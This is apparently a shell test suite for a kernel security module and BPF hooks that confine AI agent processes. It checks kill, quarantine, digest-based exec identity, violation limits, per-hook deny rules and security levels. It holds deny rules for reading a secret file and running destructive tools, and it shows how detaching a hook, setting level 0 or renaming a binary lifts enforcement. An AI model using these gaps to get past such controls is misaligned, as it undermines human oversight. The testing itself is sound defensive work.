# Signals (task_kill): the same --match-target=outside rule of agent.rules.
expect_fail "agent $AGENT: kill -TERM of $outsider (outside its session) refused (EPERM)" \
	"Operation not permitted|Permission denied" agent kill -TERM "$outsider"
tap_check "... and $outsider is still alive" kill -0 "$outsider"
tap_check "monitor: a deny event of the agent's signal, object signal:15" \
	mon_has "\"agent\":\"$AGENT\"" '"op":"signal"' '"path":"signal:15"' '"verdict":"deny"'
tap_check "agent $AGENT: kill -TERM of its own child works, and the child ends" agent sh -c '
	sleep 600 &
	c=$!
	kill -TERM $c || exit 1
	wait $c
	[ $? = 143 ]'
tap_check "root, not an agent: kill -0 of $outsider works" kill -0 "$outsider"
tap_check "flush; the seed's rule: --match-comm='python*' --match-capability=CAP_SYS_ADMIN --action=monitor --alert=true" \
	sh -c 'tcp-policy flush && tcp-policy add --priority=100 --match-comm="python*" --match-capability=CAP_SYS_ADMIN --action=monitor --alert=true'
cp "$(command -v tcpk-enforce)" /tmp/python3x
/tmp/python3x comm sethostname > "$tmp/cap.out" 2>&1
rc=$?
tap_diag "$(cat "$tmp/cap.out")"
tap_check "a process with comm python3x (/proc/self/comm) used CAP_SYS_ADMIN (sethostname), allowed" \
	sh -c "test $rc = 0 && grep -q '^comm: python3x\$' '$tmp/cap.out' && grep -q '^sethostname: ok' '$tmp/cap.out'"
tap_check "monitor: an alert event of comm python3x's capable use, allowed" \
	mon_has '"comm":"python3x"' '"op":"capable"' '"alert"' '"verdict":"allow"'
kill "$outsider" 2>/dev/null
wait "$outsider" 2>/dev/null
section_end

# === 8. kill and quarantine ============================================================
section "8. the kill and quarantine actions"
cp /bin/busybox /tmp/killme
tap_check "rule: exec of /tmp/killme -> kill" \
	tcp-policy add --match-op=exec --match-path=/tmp/killme --action=kill
out=$(sh -c '/tmp/killme; echo "status=$?"' 2>&1)
tap_diag "$out"
tap_check "the process executing /tmp/killme dies of SIGKILL (status 137), its parent lives on" \
	sh -c "printf '%s\n' '$out' | grep -qx 'status=137'"
tap_check "monitor: a deny event with the kill flag for /tmp/killme" \
	mon_flag kill '"op":"exec"' '"path":"/tmp/killme"' '"verdict":"deny"'
mkdir -p /tmp/q
: > /tmp/q/trigger
: > /tmp/q/other
tap_check "rule: open of /tmp/q/trigger -> quarantine" \
	tcp-policy add --match-op=open --match-path=/tmp/q/trigger --action=quarantine
# The script writes through a descriptor opened before the trigger; after
# it, every operation is refused, writes included, so the later results
# come back in the exit status: 10, plus 1 if the open of another file
# worked, plus 2 if a write to the open result file worked.
sh -c '
	exec 3>> "$1/result"
	if true < "$1/other"; then echo "before: open ok" >&3; else echo "before: open refused" >&3; fi
	echo "pid $$" >&3
	if true < "$1/trigger"; then echo "trigger: open ok" >&3; fi
	r=10
	if true < "$1/other"; then r=$((r + 1)); fi
	if echo "after: write ok" >&3; then r=$((r + 2)); fi
	exit $r
' sh /tmp/q 2> /dev/null
rc=$?
tap_diag "result file: $(cat /tmp/q/result 2>&1)"
tap_check "before the trigger the process opened and wrote files" \
	grep -q '^before: open ok' /tmp/q/result
tap_check "the trigger (open of /tmp/q/trigger) was refused" \
	sh -c "! grep -q '^trigger' /tmp/q/result"
tap_check "after it, an open of another file and a write to an open file are refused (status $rc, want 10)" \
	test "$rc" = 10
tap_check "... not written: $(grep -c '^after' /tmp/q/result) after-lines" \
	sh -c "! grep -q '^after' /tmp/q/result"
qpid=$(sed -n 's/^pid //p' /tmp/q/result)
tap_check "monitor: the quarantined process ($qpid) was refused the open of /tmp/q/other" \
	mon_has "\"pid\":$qpid," '"path":"/tmp/q/other"' '"quarantined"' '"verdict":"deny"'
tap_check "another process (this shell) still opens /tmp/q/other" cat /tmp/q/other
# tcp-policy release PID ends a quarantine.  The script waits for its
# child (wait4 is not an operation the module decides) while it is
# quarantined; the test releases it, then ends the child.  Its status:
# 20, plus 1 if an open worked while quarantined, plus 2 if the open after
# the release worked, plus 4 if the write after it did (want 26).
sh -c '
	exec 3>> "$1/result2"
	sleep 600 &
	echo "sleeper $!" >&3
	echo "pid $$" >&3
	true < "$1/trigger"
	r=20
	if true < "$1/other"; then r=$((r + 1)); fi
	wait
	if true < "$1/other"; then r=$((r + 2)); fi
	if echo "after release: write ok" >&3; then r=$((r + 4)); fi
	exit $r
' sh /tmp/q 2> /dev/null &
rel_pid=$!
bg="$bg $rel_pid"
tap_check "a second process opened the trigger" wait_grep '^sleeper ' /tmp/q/result2
sleeper=$(sed -n 's/^sleeper //p' /tmp/q/result2)
bg="$bg $sleeper"
tap_check "... it is quarantined: its open of /tmp/q/other refused" \
	mon_has "\"pid\":$rel_pid," '"path":"/tmp/q/other"' '"quarantined"' '"verdict":"deny"'
tcp-policy -j ps --pid="$rel_pid" > "$tmp/q.ps" 2>&1
tap_check "... tcp-policy ps says quarantined" grep -q '"quarantined":true' "$tmp/q.ps"
tcp-policy release "$rel_pid" > "$tmp/release.out" 2>&1
rc=$?
tap_diag "$(cat "$tmp/release.out")"
tap_check "tcp-policy release $rel_pid (status $rc): process $rel_pid released" \
	sh -c "test $rc = 0 && grep -qx 'process $rel_pid released' '$tmp/release.out'"
tcp-policy -j ps --pid="$rel_pid" > "$tmp/q.ps" 2>&1
tap_check "... tcp-policy ps no longer says quarantined" grep -q '"quarantined":false' "$tmp/q.ps"
tap_check "dmesg: the release is logged with the caller's uid" \
	sh -c "dmesg | grep -q 'pid $rel_pid released from quarantine by uid 0'"
kill "$sleeper" 2>/dev/null
wait "$rel_pid"
rc=$?
tap_diag "result file: $(cat /tmp/q/result2 2>&1)"
tap_check "after the release its next open and write work, not before (status $rc, want 26)" \
	test "$rc" = 26
tap_check "... it wrote its after-release line" grep -q '^after release: write ok' /tmp/q/result2
expect_fail "tcp-policy release of a process not quarantined ($$) fails, saying so" \
	"not quarantined" tcp-policy release $$
section_end

# === 9. exec identity ==================================================================
section "9. exec identity: a copy of a DESTRUCTIVE tool keeps its descriptor"
mkdir -p /tmp/a /tmp/b /tmp/c
# Copies of busybox named after its applet "true", with a few bytes
# appended (ignored when it runs) so that its digest is its own and not
# that of /bin/busybox, which every other program of the guest is.
cp /bin/busybox /tmp/a/true
printf 'tcpk50-tool' >> /tmp/a/true
cp /tmp/a/true /tmp/b/true
cp /bin/busybox /tmp/c/true
printf 'tcpk50-other' >> /tmp/c/true
tap_check "the tool runs (before any descriptor)" /tmp/a/true
tap_check "desc add: tcpk50tool DESTRUCTIVE, bound to sha256=@/tmp/a/true and path=/tmp/a/true" \
	tcp-policy desc add tcpk50tool 'HIGH_RISK|DESTRUCTIVE' 5 2 0 sha256=@/tmp/a/true path=/tmp/a/true
tap_diag "$(tcp-policy desc list 2>&1)"
tap_check "rule: agents may not exec a DESTRUCTIVE tool" \
	tcp-policy add --match-agent='*' --match-op=exec --match-desc-any=DESTRUCTIVE --action=deny
expect_fail "agent $AGENT: exec of /tmp/a/true refused" "Permission denied" agent /tmp/a/true
tap_check "root, not an agent: /tmp/a/true runs" /tmp/a/true
tap_check "agent $AGENT: /tmp/c/true (same name, other content) runs" agent /tmp/c/true
# no_digest STATUS: the exec (of status STATUS) was allowed on a kernel
# that gives no content digest (IMA not enabled).
no_digest() {
	[ "$1" = 0 ] && [ ! -d /sys/kernel/security/ima ] &&
		! tr ',' '\n' < /sys/kernel/security/lsm | grep -Eqx 'ima|integrity'
}
out=$(agent /tmp/b/true 2>&1)
rc=$?
digest=yes
if [ $rc != 0 ] && printf '%s\n' "$out" | grep -q "Permission denied"; then
	tap_ok "agent $AGENT: exec of the copy /tmp/b/true refused (the path /tmp/b/true and the name true have no descriptor)"
	tap_diag "$out"
	tap_check "monitor: the deny event of /tmp/b/true says the identity that applied: desc-digest" \
		mon_flag desc-digest "\"agent\":\"$AGENT\"" '"op":"exec"' '"path":"/tmp/b/true"' '"verdict":"deny"'
elif no_digest $rc; then
	digest=no
	tap_skip "agent $AGENT: exec of the copy /tmp/b/true refused by its digest" \
		"no content digest on this kernel (IMA not enabled): only the path identity applies"
else
	tap_not_ok "agent $AGENT: exec of the copy /tmp/b/true refused by its digest" \
		"status $rc: $out; lsm: $(cat /sys/kernel/security/lsm)"
fi
# Renamed: the same inode at another path (the module caches digests per
# inode; the rename changed the inode's ctime, so it may hash it again).
# The applet name stays "true" (busybox runs the applet of its name).
mkdir -p /tmp/d
tap_check "mv /tmp/b/true /tmp/d/true (the copy renamed)" mv /tmp/b/true /tmp/d/true
out=$(agent /tmp/d/true 2>&1)
rc=$?
if [ $rc != 0 ] && printf '%s\n' "$out" | grep -q "Permission denied"; then
	tap_ok "agent $AGENT: exec of the renamed copy /tmp/d/true refused"
	tap_diag "$out"
	tap_check "monitor: the deny event of /tmp/d/true says desc-digest" \
		mon_flag desc-digest "\"agent\":\"$AGENT\"" '"op":"exec"' '"path":"/tmp/d/true"' '"verdict":"deny"'
elif [ $digest = no ] && no_digest $rc; then
	tap_skip "agent $AGENT: exec of the renamed copy /tmp/d/true refused by its digest" \
		"no content digest on this kernel (IMA not enabled): only the path identity applies"
else
	tap_not_ok "agent $AGENT: exec of the renamed copy /tmp/d/true refused by its digest" \
		"status $rc: $out; lsm: $(cat /sys/kernel/security/lsm)"
fi
# Rewritten in place: /tmp/c/true (allowed above, its digest cached for
# its inode) gets the DESTRUCTIVE tool's bytes, same inode.  The write
# changes the inode's ctime, so the cached digest is not used again and
# the new content's digest applies.  (The sleep puts the write past the
# clock tick of the earlier exec: ctime has the coarse clock's grain.)
if [ $digest = yes ]; then
	sleep 1
	ino0=$(stat -c %i /tmp/c/true)
	tap_check "/tmp/c/true rewritten in place with the tool's bytes (same inode)" \
		sh -c "cat /tmp/a/true > /tmp/c/true && [ \$(stat -c %i /tmp/c/true) = $ino0 ]"
	expect_fail "agent $AGENT: exec of the rewritten /tmp/c/true refused (the cached digest is not reused)" \
		"Permission denied" agent /tmp/c/true
fi
tap_check "security_level 1" sh -c "echo 1 > '$LEVEL_PARAM'"
tap_check "... tcp-policy mode says level 1" sh -c 'tcp-policy -j mode | grep -q "\"level\":1,"'
tap_check "level 1: agent lvl1's exec of /tmp/a/true is allowed" \
	tcp-policy run --agent=lvl1 --workspace="$WS" -- /tmp/a/true
tap_check "... with a would-deny event" \
	mon_has '"agent":"lvl1"' '"op":"exec"' '"path":"/tmp/a/true"' '"would_deny":true'
echo 2 > "$LEVEL_PARAM"
section_end

# === 9b. violations =====================================================================
section "9b. violations: after max_violations refusals, a process's DESTRUCTIVE exec is refused"
MAXV=$SYSMOD/parameters/max_violations
tap_check "max_violations is 0644 and 16 by default" sh -c "
	[ \$(stat -c %a $MAXV) = 644 ] && grep -qx 16 $MAXV"
echo 3 > "$MAXV"
mkdir -p /tmp/v
cp /bin/busybox /tmp/v/true
printf 'tcpk50-violations' >> /tmp/v/true
: > "$SRV/nope"
tap_check "desc add: tcpk50v DESTRUCTIVE, bound to path=/tmp/v/true" \
	tcp-policy desc add tcpk50v DESTRUCTIVE 5 2 0 path=/tmp/v/true
tap_check "rule: open of $SRV/nope -> deny" \
	tcp-policy add --match-op=open --match-path="$SRV/nope" --action=deny
tap_check "a process without violations runs the DESTRUCTIVE tool" \
	sh -c 'exec /tmp/v/true'
# The shell's own opens (redirections) are refused three times, then it
# executes the tool in place (same process): refused by its violations.
out=$(sh -c 'true < "$1"; true < "$1"; true < "$1"; echo "pid $$"; exec /tmp/v/true' sh "$SRV/nope" 2>&1)
rc=$?
tap_diag "status $rc: $out"
vpid=$(printf '%s\n' "$out" | sed -n 's/^pid //p')
printf '%s\n' "$out" > "$tmp/viol.out"
tap_check "after 3 refusals its exec of /tmp/v/true is refused (status $rc)" \
	sh -c "[ $rc != 0 ] && grep -q '/tmp/v/true: Permission denied' '$tmp/viol.out'"
tap_check "monitor: the deny event of the exec has the decision flag violations" \
	mon_flag violations "\"pid\":$vpid," '"op":"exec"' '"path":"/tmp/v/true"' '"verdict":"deny"'
tap_check "... and the reason says so" \
	mon_has "\"pid\":$vpid," '"op":"exec"' 'too many violations'
tap_check "... a child it forks after them is refused it too (violations follow a fork)" \
	sh -c 'true < "$1"; true < "$1"; true < "$1"; if /tmp/v/true; then exit 1; fi' sh "$SRV/nope"
tap_check "two refusals are not enough: a process refused twice runs it" \
	sh -c 'true < "$1"; true < "$1"; exec /tmp/v/true' sh "$SRV/nope"
# A process that waits: tcp-policy ps shows its violations.
sh -c 'true < "$1"; true < "$1"; exec sleep 30' sh "$SRV/nope" 2> /dev/null &
wpid=$!
bg="$bg $wpid"
tap_check "tcp-policy ps shows the 2 violations of a waiting process" \
	retry 10 sh -c "tcp-policy -j ps --pid=$wpid | grep -q '\"violations\":2'"
kill "$wpid" 2> /dev/null
tap_check "at level 1 the tool runs after 3 refusals (would-deny is counted, not refused)" \
	sh -c "echo 1 > '$LEVEL_PARAM' && sh -c 'true < \"\$1\"; true < \"\$1\"; true < \"\$1\"; exec /tmp/v/true' sh '$SRV/nope'"
echo 2 > "$LEVEL_PARAM"
echo 0 > "$MAXV"
tap_check "max_violations 0: no limit" \
	sh -c 'true < "$1"; true < "$1"; true < "$1"; exec /tmp/v/true' sh "$SRV/nope"
echo 16 > "$MAXV"
section_end

# === 10. the other hooks ================================================================
section "10. fork, rename, chmod, socket, sendmsg, msgsnd, shmat refused by a rule"
# fork (task_alloc): a "fork" request of the parent.
tap_check "without a rule: tcpk-enforce fork works" tcpk-enforce fork
tap_check "rule: --match-op=fork --match-comm=tcpk-enforce --action=deny" \
	tcp-policy add --match-op=fork --match-comm=tcpk-enforce --action=deny
expect_fail "fork() by tcpk-enforce refused (EACCES)" \
	'^fork: Permission denied \(errno 13\)' tcpk-enforce fork
tap_check "... a shell (another comm) still forks" sh -c '(/bin/true) && /bin/true'
tap_check "monitor: a deny event of the fork" \
	mon_has '"comm":"tcpk-enforce"' '"op":"fork"' '"verdict":"deny"'
reset_state
# rename (path_rename): decided by the source and by the destination
# (within one file system: /tmp is another, where mv would copy).
mkdir -p "$SRV/r"
echo rn > "$SRV/r/a"
echo rn-src > "$SRV/rn.src"
tap_check "without a rule: mv $SRV/r/a $SRV/r/b and back works" \
	sh -c "mv '$SRV/r/a' '$SRV/r/b' && mv '$SRV/r/b' '$SRV/r/a'"
tap_check "rule: --match-op=rename --match-path='$SRV/r/**' --action=deny" \
	tcp-policy add --match-op=rename --match-path="$SRV/r/**" --action=deny
expect_fail "mv $SRV/r/a $SRV/r/c refused (Permission denied)" "Permission denied" \
	mv "$SRV/r/a" "$SRV/r/c"
tap_check "... $SRV/r/a is still there, $SRV/r/c is not" test -e "$SRV/r/a" -a ! -e "$SRV/r/c"
expect_fail "mv $SRV/rn.src $SRV/r/new (only the destination under the rule) refused" \
	"Permission denied" mv "$SRV/rn.src" "$SRV/r/new"
tap_check "... $SRV/rn.src is still there, $SRV/r/new is not" test -e "$SRV/rn.src" -a ! -e "$SRV/r/new"
tap_check "monitor: a deny event of the rename of $SRV/r/a (its source)" \
	mon_has '"op":"rename"' "\"path\":\"$SRV/r/a\"" '"verdict":"deny"'
tap_check "monitor: a deny event of the rename to $SRV/r/new (its destination)" \
	mon_has '"op":"rename"' "\"path\":\"$SRV/r/new\"" '"verdict":"deny"'
reset_state
# chmod (path_chmod): write, and setid for a set-user-ID mode.
: > "$SRV/m"
chmod 644 "$SRV/m"
mode_of() {
	stat -c %A "$1"
}
tap_check "without a rule: chmod 600 $SRV/m and back to 644 works" \
	sh -c "chmod 600 '$SRV/m' && chmod 644 '$SRV/m'"
tap_check "rule: --match-op=chmod --match-path='$SRV/m' --action=deny" \
	tcp-policy add --match-op=chmod --match-path="$SRV/m" --action=deny
expect_fail "chmod 600 $SRV/m refused (Permission denied)" "Permission denied" chmod 600 "$SRV/m"
tap_check "... its mode is still -rw-r--r-- ($(mode_of "$SRV/m"))" test "$(mode_of "$SRV/m")" = "-rw-r--r--"
tap_check "monitor: a deny event of the chmod" \
	mon_has '"op":"chmod"' "\"path\":\"$SRV/m\"" '"verdict":"deny"'
tap_check "flush; rule: --match-op=chmod --match-access=setid --match-path='$SRV/**' --action=deny" \
	sh -c "tcp-policy flush && tcp-policy add --match-op=chmod --match-access=setid --match-path='$SRV/**' --action=deny"
tap_check "chmod 755 $SRV/m (no set-ID bit) works" chmod 755 "$SRV/m"
expect_fail "chmod u+s $SRV/m refused (Permission denied)" "Permission denied" chmod u+s "$SRV/m"
tap_check "... its mode is -rwxr-xr-x, no set-user-ID bit ($(mode_of "$SRV/m"))" \
	test "$(mode_of "$SRV/m")" = "-rwxr-xr-x"
reset_state
# socket (socket_create): the object is "FAMILY:TYPE".
tap_check "without a rule: socket(AF_INET, SOCK_DGRAM) works" tcpk-enforce socket inet dgram
tap_check "rule: --match-op=socket --match-path=inet:dgram --action=deny" \
	tcp-policy add --match-op=socket --match-path=inet:dgram --action=deny
expect_fail "socket(AF_INET, SOCK_DGRAM) refused (EACCES)" \
	'^socket: Permission denied \(errno 13\)' tcpk-enforce socket inet dgram
tap_check "... socket(AF_INET, SOCK_STREAM) and socket(AF_UNIX, SOCK_DGRAM) still work" \
	tcpk-enforce socket inet stream socket unix dgram
tap_check "monitor: a deny event of the socket, object inet:dgram" \
	mon_has '"op":"socket"' '"path":"inet:dgram"' '"verdict":"deny"'
reset_state
# sendmsg (socket_sendmsg): the object is the destination address.
tap_check "without a rule: a UDP datagram to 127.0.0.1:7778 is sent and received" \
	sh -c "tcpk-enforce sendto 127.0.0.1 7778 | grep -qx 'recv: ok'"
tap_check "rule: --match-op=sendmsg --match-path=127.0.0.1:7778 --action=deny" \
	tcp-policy add --match-op=sendmsg --match-path=127.0.0.1:7778 --action=deny
expect_fail "sendto 127.0.0.1:7778 refused (EACCES)" \
	'^sendto: Permission denied \(errno 13\)' tcpk-enforce sendto 127.0.0.1 7778
tap_check "... sendto 127.0.0.1:7779 still works, and is received" \
	sh -c "tcpk-enforce sendto 127.0.0.1 7779 | grep -qx 'recv: ok'"
tap_check "monitor: a deny event of the sendmsg to 127.0.0.1:7778" \
	mon_has '"op":"sendmsg"' '"path":"127.0.0.1:7778"' '"verdict":"deny"'
reset_state
# System V IPC (msg_queue_msgsnd, shm_shmat): the objects are "msg:KEY"
# and "shm:KEY".
if [ ! -d /proc/sysvipc ]; then
	tap_skip "msgsnd and shmat refused by a rule" "no System V IPC in this kernel (no /proc/sysvipc)"
else
	tap_check "without a rule: msgsnd to the queue of key 5050 works" tcpk-enforce msgsnd 5050
	tap_check "rule: --match-op=msgsnd --match-path=msg:5050 --action=deny" \
		tcp-policy add --match-op=msgsnd --match-path=msg:5050 --action=deny
	expect_fail "msgsnd to the queue of key 5050 refused (EACCES)" \
		'^msgsnd: Permission denied \(errno 13\)' tcpk-enforce msgsnd 5050
	tap_check "... msgsnd to the queue of key 5051 still works" tcpk-enforce msgsnd 5051
	tap_check "monitor: a deny event of the msgsnd, object msg:5050" \
		mon_has '"op":"msgsnd"' '"path":"msg:5050"' '"verdict":"deny"'
	reset_state
	tap_check "without a rule: shmat of the segment of key 5060 (read-write) works" \
		tcpk-enforce shmat 5060
	tap_check "rule: --match-op=shmat --match-path=shm:5060 --match-access=write --action=deny" \
		tcp-policy add --match-op=shmat --match-path=shm:5060 --match-access=write --action=deny
	expect_fail "shmat read-write of the segment of key 5060 refused (EACCES)" \
		'^shmat: Permission denied \(errno 13\)' tcpk-enforce shmat 5060
	tap_check "... shmat SHM_RDONLY of it still works" tcpk-enforce shmat-ro 5060
	tap_check "monitor: a deny event of the shmat, object shm:5060" \
		mon_has '"op":"shmat"' '"path":"shm:5060"' '"verdict":"deny"'
fi
section_end

# === 11. tcp-bpf stats, detach and attach of one hook ==================================
section "11. tcp-bpf stats; detach and attach --hooks=file_open"
echo secret > "$SRV/secret"
tap_check "rule: deny open of $SRV/secret" \
	tcp-policy add --match-op=open --match-path="$SRV/secret" --action=deny
expect_fail "open of $SRV/secret refused" "Permission denied" cat "$SRV/secret"
tcp-bpf -j stats --interval=1 --count=2 > "$tmp/stats.json" 2> "$tmp/stats.err"
rc=$?
tap_diag "$(cat "$tmp/stats.json" "$tmp/stats.err")"
tap_check "tcp-bpf -j stats --interval=1 --count=2 (status $rc): two lines" \
	test $rc = 0 -a "$(wc -l < "$tmp/stats.json")" = 2
sed -n 1p "$tmp/stats.json" > "$tmp/stats1.json"
sed -n 2p "$tmp/stats.json" > "$tmp/stats2.json"
for n in 1 2; do
	tap_check "stats document $n: $NHOOKS programs loaded and attached, blocked > 0, an interval of 1 s or more" \
		expect_json "$tmp/stats$n.json" "d['programs']['total'] == $NHOOKS and d['programs']['loaded'] == $NHOOKS and d['programs']['attached'] == $NHOOKS and d['module_loaded'] and d['blocked'] > 0 and 0.5 < d['interval'] < 60"
done
tap_check "stats: the refused opens are counted (blocked_ops open > 0)" \
	expect_json "$tmp/stats2.json" "d['blocked_ops'].get('open', 0) > 0"
tap_check "stats: events/s, the event queue's use, the CPU overhead of the BPF runs and the anomalies are numbers" \
	expect_json "$tmp/stats2.json" "d['events_per_sec'] >= 0 and d['drops_per_sec'] >= 0 and 0 <= d['ring_buffer_use']['queued'] <= d['ring_buffer_use']['peak'] <= d['ring_buffer_use']['size'] and d['ring_buffer_use']['size'] > 0 and d['bpf_stats_enabled'] is True and d['bpf_run_cnt'] > 0 and d['cpu_overhead_pct'] >= 0 and d['anomalies'] >= 0"
tcp-bpf stats > "$tmp/stats.txt" 2>&1
tap_diag "$(cat "$tmp/stats.txt")"
tap_check "tcp-bpf stats (text): the seed's screen, every line with a value, none n/a" sh -c "
	for l in 'Programs loaded: +$NHOOKS of $NHOOKS \($NHOOKS attached\)' 'Events/s: +[0-9.]+ ' \
		'Ring buffer use: +[0-9]+ of [0-9]+ ' 'CPU overhead: +[0-9.]+%' \
		'Blocked operations: +[1-9][0-9]* .*open [1-9]' 'Anomalies detected: +[0-9]+ '; do
		grep -Eq \"^\$l\" '$tmp/stats.txt' || { echo \"no line: \$l\"; exit 1; }
	done"
tap_check "tcp-bpf detach --hooks=file_open" tcp-bpf detach --hooks=file_open
tcp-bpf -j status > "$tmp/status1.json" 2>&1
tap_check "tcp-bpf -j status: file_open loaded, not attached; the $((NHOOKS - 1)) others attached" \
	expect_json "$tmp/status1.json" "d['attached'] == $NHOOKS - 1 and all(p['attached'] == (p['hook'] != 'file_open') for p in d['programs']) and [p for p in d['programs'] if p['hook'] == 'file_open' and p['loaded']]"
tap_check "file_open detached: the open of $SRV/secret is not refused" \
	sh -c "cat '$SRV/secret' | grep -q secret"
tap_check "tcp-bpf attach --hooks=file_open" tcp-bpf attach --hooks=file_open
tcp-bpf -j status > "$tmp/status2.json" 2>&1
tap_check "tcp-bpf -j status: every program attached again" \
	expect_json "$tmp/status2.json" "d['attached'] == $NHOOKS and all(p['attached'] for p in d['programs'])"
expect_fail "file_open attached again: the open of $SRV/secret is refused" \
	"Permission denied" cat "$SRV/secret"
section_end

# === 12. detach, rmmod, the loader without the module, the module without BPF ==========
section "12. detach and rmmod; each side without the other"
stop_monitor
tcp-policy flush > /dev/null
tcp-policy desc flush > /dev/null
tap_check "tcp-bpf detach" tcp-bpf detach
tap_check "rmmod $MOD after detach" rmmod "$MOD"
if [ -d "$SYSMOD" ]; then
	retry 10 rmmod "$MOD" 2>/dev/null
fi
expect_fail "tcp-bpf attach without the module fails, naming it" \
	"tcp_kernel module is not loaded" tcp-bpf attach
tap_check "... and pins nothing" test ! -e /sys/fs/bpf/tcp_kernel/links
tap_check "modprobe $MOD security_level=2 (no BPF attached)" modprobe "$MOD" security_level=2
tcp-bpf status > "$tmp/status0.txt" 2>&1
rc=$?
tap_diag "$(cat "$tmp/status0.txt")"
tap_check "tcp-bpf status (status $rc): the module loaded, 0 of $NHOOKS programs loaded or attached" \
	sh -c "test $rc = 0 && grep -q '^module: *tcp_kernel loaded' '$tmp/status0.txt' &&
		grep -Eq '^programs: +$NHOOKS, 0 loaded, 0 attached' '$tmp/status0.txt'"
noatt=$(awk 'f && $2 == "no" && $3 == "no" { n++ } /^HOOK / { f = 1 } END { print n + 0 }' "$tmp/status0.txt")
tap_check "tcp-bpf status: every hook's row says not attached ($noatt of $NHOOKS)" test "$noatt" = "$NHOOKS"
mkdir -p "$SRV"
: > "$SRV/nobpf"
tcp-policy add --match-op=unlink --match-path="$SRV/**" --action=deny > /dev/null
tap_check "without BPF nothing is enforced: rm $SRV/nobpf under a deny rule works" rm "$SRV/nobpf"
section_end

# === 13. security level 0 ==============================================================
section "13. security_level 0: every decision is allow"
tap_check "tcp-bpf attach" tcp-bpf attach
start_monitor
cp /bin/busybox /tmp/true
: > "$SRV/f0"
echo secret > "$SRV/secret"
tap_check "deny rules: unlink under $SRV, open of $SRV/secret, exec of /tmp/true, connect to 127.0.0.2" sh -c "
	tcp-policy add --match-op=unlink --match-path='$SRV/**' --action=deny &&
	tcp-policy add --match-op=open --match-path='$SRV/secret' --action=deny &&
	tcp-policy add --match-op=exec --match-path=/tmp/true --action=deny &&
	tcp-policy add --match-op=connect --match-path='127.0.0.2:*' --action=deny"
expect_fail "level 2 (control): rm $SRV/f0 refused" "Permission denied" rm "$SRV/f0"
tap_check "... with its deny event (the monitor records)" \
	mon_has '"op":"unlink"' "\"path\":\"$SRV/f0\"" '"verdict":"deny"'
tap_check "security_level 0" sh -c "echo 0 > '$LEVEL_PARAM'"
tap_check "... tcp-policy mode says level 0" sh -c 'tcp-policy -j mode | grep -q "\"level\":0,"'
ev0=$(wc -l < "$MON")
tap_check "level 0: rm $SRV/f0 works" rm "$SRV/f0"
tap_check "level 0: cat $SRV/secret works" sh -c "cat '$SRV/secret' | grep -q secret"
tap_check "level 0: exec of /tmp/true works" /tmp/true
tap_check "level 0: exec of /tmp/true works as uid 65534" as_nobody /tmp/true
nc -l -p "$PORT" > "$tmp/nc0.out" 2>&1 &
nc_pid=$!
bg="$bg $nc_pid"
retry 10 listening
tap_check "level 0: connect to 127.0.0.2:$PORT works" \
	sh -c "echo level0 | timeout 10 nc -w 2 127.0.0.2 $PORT"
kill "$nc_pid" 2>/dev/null
wait "$nc_pid" 2>/dev/null
# Back to level 2: the next refusal's event is the first decision event
# after the level 0 operations, so the monitor still records.
echo 2 > "$LEVEL_PARAM"
: > "$SRV/f1"
expect_fail "level 2 again: rm $SRV/f1 refused" "Permission denied" rm "$SRV/f1"
tap_check "... with its deny event" \
	mon_has '"op":"unlink"' "\"path\":\"$SRV/f1\"" '"verdict":"deny"'
tap_check "level 0: no decision event (events before: $ev0; after them, only that of $SRV/f1)" \
	sh -c "tail -n +$((ev0 + 1)) '$MON' | grep -q '\"path\":\"$SRV/f1\"' &&
		! tail -n +$((ev0 + 1)) '$MON' | grep '\"type\":\"decision\"' | grep -vq '\"path\":\"$SRV/f1\"'"
stop_monitor
tcp-policy flush > /dev/null
tap_check "tcp-bpf detach" tcp-bpf detach
tap_check "rmmod $MOD" retry 10 rmmod "$MOD"
section_end

tap_done
